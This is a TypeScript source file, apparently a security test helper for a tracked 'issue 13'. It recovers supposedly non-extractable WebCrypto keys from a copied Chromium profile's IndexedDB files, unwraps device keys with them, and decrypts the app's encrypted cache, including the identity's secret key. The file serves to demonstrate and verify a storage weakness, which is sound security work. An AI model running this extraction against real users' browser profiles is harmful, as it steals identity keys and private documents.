import { readdirSync, readFileSync, statSync } from 'node:fs';
import { join } from 'node:path';
import { webcrypto } from 'node:crypto';
import sodium from 'libsodium-wrappers';

/** Every regular file under `dir`, recursively (a copied browser profile). */
export function profileFiles(dir: string): Array<{ path: string; bytes: Buffer }> {
  return readdirSync(dir).flatMap((f) => {
    const p = join(dir, f);
    const st = statSync(p, { throwIfNoEntry: false });
    if (!st) return [];
    if (st.isDirectory()) return profileFiles(p);
    return st.isFile() ? [{ path: p, bytes: readFileSync(p) }] : [];
  });
}

/** Reads a V8 serializer varint at `at`; [value, bytes used]. */
function varint(buf: Buffer, at: number): [number, number] {
  let v = 0;
  for (let i = 0; i < 5 && at + i < buf.length; i++) {
    const b = buf[at + i]!;
    v += (b & 0x7f) * 2 ** (7 * i);
    if ((b & 0x80) === 0) return [v, i + 1];
  }
  return [-1, 0];
}

/**
 * The attack of issue 13 on a copy of a Chromium profile (no running browser): Chromium writes
 * a "non-extractable" WebCrypto key into IndexedDB's LevelDB files with its raw bytes
 * (Blink's CryptoKey serialisation: tag 'K', AES, …, 32, usages, 32, key). Take every such
 * key, every `{iv, sealed}` record (the device key sealed with AES-GCM), unwrap, and with each
 * device key found try to open every stored byte array as the encrypted cache's `profile`
 * entry (XChaCha20-Poly1305, 24-byte nonce first, the entry name as associated data)
 * entry, and as every other entry whose name appears in the files. Returns the device keys it
 * unwrapped, the profiles (JSON with the identity's secret key) and the entries it opened.
 */
export async function attackProfile(
  dir: string,
): Promise<{ deviceKeys: string[]; profiles: string[]; openedEntries: string[] }> {
  await sodium.ready;
  const files = profileFiles(dir).filter((f) => f.path.includes('IndexedDB'));
  const wrappingKeys = new Map<string, Buffer>();
  const ivs: Buffer[] = [];
  const sealed: Buffer[] = [];
  const arrays: Buffer[] = [];
  // Entry names (the associated data): 'profile', 'heads', 'space:<id>', 'doc:<id>:<id>'.
  const names = new Set(['profile', 'heads']);
  for (const { bytes } of files) {
    for (const text of [bytes.toString('latin1'), bytes.toString('utf16le'), bytes.subarray(1).toString('utf16le')]) {
      for (const m of text.matchAll(/(?:space:[0-9a-f]{32}|doc:[0-9a-f]{32}:[0-9a-f]{32})/g)) names.add(m[0]);
    }
    for (let i = 0; i + 38 <= bytes.length; i++) {
      if (bytes[i] === 0x4b && bytes[i + 1] === 0x01 && bytes[i + 3] === 0x20 && bytes[i + 5] === 0x20) {
        const k = bytes.subarray(i + 6, i + 38);
        wrappingKeys.set(k.toString('hex'), Buffer.from(k));
      }
    }
    for (const [marker, len, into] of [
      [Buffer.from('"\x02ivB\x0c', 'latin1'), 12, ivs],
      [Buffer.from('"\x06sealedB\x30', 'latin1'), 48, sealed],
    ] as const) {
      for (let at = bytes.indexOf(marker); at >= 0; at = bytes.indexOf(marker, at + 1)) {
        into.push(Buffer.from(bytes.subarray(at + marker.length, at + marker.length + len)));
      }
    }
    for (let i = 0; i < bytes.length; i++) {
      if (bytes[i] !== 0x42) continue;
      const [len, used] = varint(bytes, i + 1);
      if (len < 24 + 16 + 2 || len > 1 << 20 || i + 1 + used + len > bytes.length) continue;
      arrays.push(bytes.subarray(i + 1 + used, i + 1 + used + len));
    }
  }
  const deviceKeys = new Map<string, Uint8Array>();
  for (const wk of wrappingKeys.values()) {
    const key = await webcrypto.subtle.importKey('raw', wk, 'AES-GCM', false, ['decrypt']).catch(() => null);
    if (!key) continue;
    for (const iv of ivs) {
      for (const s of sealed) {
        try {
          const plain = new Uint8Array(await webcrypto.subtle.decrypt({ name: 'AES-GCM', iv }, key, s));
          if (plain.length === 32) deviceKeys.set(Buffer.from(plain).toString('hex'), plain);
        } catch {
          /* not this pair */
        }
      }
    }
  }
  const profiles = new Set<string>();
  const opened = new Set<string>();
  for (const dk of deviceKeys.values()) {
    for (const a of arrays) {
      for (const name of names) {
        try {
          const ad = new TextEncoder().encode(name);
          const plain = sodium.crypto_aead_xchacha20poly1305_ietf_decrypt(
            null,
            a.subarray(24),
            ad,
            a.subarray(0, 24),
            dk,
          );
          opened.add(name);
          if (name === 'profile') profiles.add(new TextDecoder().decode(plain));
        } catch {
          /* not this entry, or not under this key */
        }
      }
    }
  }
  return { deviceKeys: [...deviceKeys.keys()], profiles: [...profiles], openedEntries: [...opened] };
}

/** Which of `needles` (strings: UTF-8 and UTF-16LE; byte arrays as they are) occur in the files. */
export function findInFiles(
  files: Array<{ path: string; bytes: Buffer }>,
  needles: Array<string | Uint8Array>,
): string[] {
  const found: string[] = [];
  for (const n of needles) {
    const forms = typeof n === 'string' ? [Buffer.from(n, 'utf8'), Buffer.from(n, 'utf16le')] : [Buffer.from(n)];
    for (const { path, bytes } of files) {
      if (forms.some((f) => bytes.includes(f)))
        found.push(`${typeof n === 'string' ? JSON.stringify(n) : 'bytes'} in ${path}`);
    }
  }
  return found;
}
